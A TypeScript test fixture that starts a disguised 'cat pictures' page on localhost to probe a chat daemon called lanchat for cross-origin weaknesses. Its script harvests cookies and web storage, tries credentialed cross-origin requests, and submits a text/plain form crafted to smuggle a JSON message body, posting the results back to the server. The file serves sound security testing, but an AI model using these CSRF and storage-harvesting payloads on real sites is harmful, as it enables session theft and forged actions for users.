/**
 * A hostile local web server for the browser tests: another program on
 * 127.0.0.1, on a port of its own, whose page tries to use the lanchat
 * session of whoever visits it. It records every request it receives
 * (method, URL, all headers, body), and its page reports what its own script
 * could see and what its calls to the daemon came back as.
 *
 * @example
 * ```ts
 * const evil = await startHostileServer(daemonUrl)
 * await page.goto(evil.url)
 * const report = await evil.report()
 * ```
 */
import { createServer } from 'node:http'
import type { IncomingHttpHeaders } from 'node:http'
import type { AddressInfo } from 'node:net'

export interface SeenRequest {
  method: string
  url: string
  headers: IncomingHttpHeaders
  body: string
}

/** What the hostile page's script found and got: a string per attempt (an error's name, or `type status` of a response). */
export type HostileReport = Record<string, string>

export interface HostileServer {
  url: string
  requests: SeenRequest[]
  /** resolves with the page's report once its script has posted it */
  report: () => Promise<HostileReport>
  close: () => Promise<void>
}

/** Most bytes of one request body kept: the report is small; anything more is not ours to keep. */
const MAX_BODY_BYTES = 64 * 1024
/** How long the page's script may take to try everything and report. */
const REPORT_DEADLINE_MS = 15_000

/** The hostile page's script: read every store it can, then call the daemon in every way a page can. */
function script (target: string): string {
  return `
const target = ${JSON.stringify(target)}
const report = { cookie: document.cookie, local: JSON.stringify({ ...localStorage }), session: JSON.stringify({ ...sessionStorage }) }
const attempt = async (name, run) => {
  try { const res = await run(); report[name] = res.type + ' ' + res.status } catch (err) { report[name] = err.name }
}
const loaded = (el) => new Promise(resolve => { el.onload = resolve; el.onerror = resolve })
// the daemon's page in a frame: framing is refused, and its storage is another origin's anyway
const frame = document.createElement('iframe')
frame.name = 'frame'
frame.src = target + '/'
document.body.append(frame)
await loaded(frame)
try { report.frameStorage = String(frame.contentWindow.localStorage.getItem('lanchat.session')) } catch (err) { report.frameStorage = err.name }
const send = JSON.stringify({ to: 'bob', body: 'sent by the hostile page' })
await attempt('read status', () => fetch(target + '/api/status', { credentials: 'include' }))
await attempt('read status, no-cors', () => fetch(target + '/api/status', { credentials: 'include', mode: 'no-cors' }))
await attempt('read events', () => fetch(target + '/api/events', { credentials: 'include', mode: 'no-cors' }))
await attempt('send, simple request', () => fetch(target + '/api/messages', { method: 'POST', credentials: 'include', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: send }))
await attempt('send, with a guessed session', () => fetch(target + '/api/messages', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json', authorization: 'Session guess' }, body: send }))
await attempt('redeem a code', () => fetch(target + '/api/session', { method: 'POST', credentials: 'include', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ code: 'guess' }) }))
await attempt('mint a code', () => fetch(target + '/api/login-codes', { method: 'POST', credentials: 'include', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{}' }))
// an image sends no Origin at all
const img = new Image()
img.src = target + '/api/contacts'
await loaded(img)
// a form posted into a frame: a navigation, with whatever cookies the browser has
const sink = document.createElement('iframe')
sink.name = 'sink'
document.body.append(sink)
const form = document.createElement('form')
form.method = 'POST'
form.action = target + '/api/messages'
form.enctype = 'text/plain'
form.target = 'sink'
const field = document.createElement('input')
field.name = '{"to":"bob","body":"sent by the hostile form","x":"'
field.value = '"}'
form.append(field)
document.body.append(form)
const posted = loaded(sink)
form.submit()
await posted
await fetch('/report', { method: 'POST', body: JSON.stringify(report) })
`
}

export async function startHostileServer (target: string): Promise<HostileServer> {
  const requests: SeenRequest[] = []
  const reported = Promise.withResolvers<HostileReport>()
  const server = createServer((req, res) => {
    let body = ''
    req.setEncoding('utf8')
    req.on('data', (chunk: string) => { if (body.length < MAX_BODY_BYTES) body += chunk })
    req.on('end', () => {
      requests.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body })
      if (req.method === 'POST' && req.url === '/report') {
        try {
          reported.resolve(JSON.parse(body) as HostileReport)
        } catch (err) {
          reported.reject(err as Error)
        }
        res.writeHead(204).end()
      } else if (req.method === 'GET' && req.url === '/') {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
        res.end(`<!doctype html><title>cat pictures</title><h1>cat pictures</h1><script type="module">${script(target)}</script>`)
      } else {
        res.writeHead(404).end()
      }
    })
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${port}/`,
    requests,
    report: async () => {
      const timer = setTimeout(() => { reported.reject(new Error(`the hostile page did not report within ${REPORT_DEADLINE_MS} ms`)) }, REPORT_DEADLINE_MS)
      try {
        return await reported.promise
      } finally {
        clearTimeout(timer)
      }
    },
    close: async () => {
      server.closeAllConnections()
      await new Promise<void>(resolve => { server.close(() => { resolve() }) })
    }
  }
}
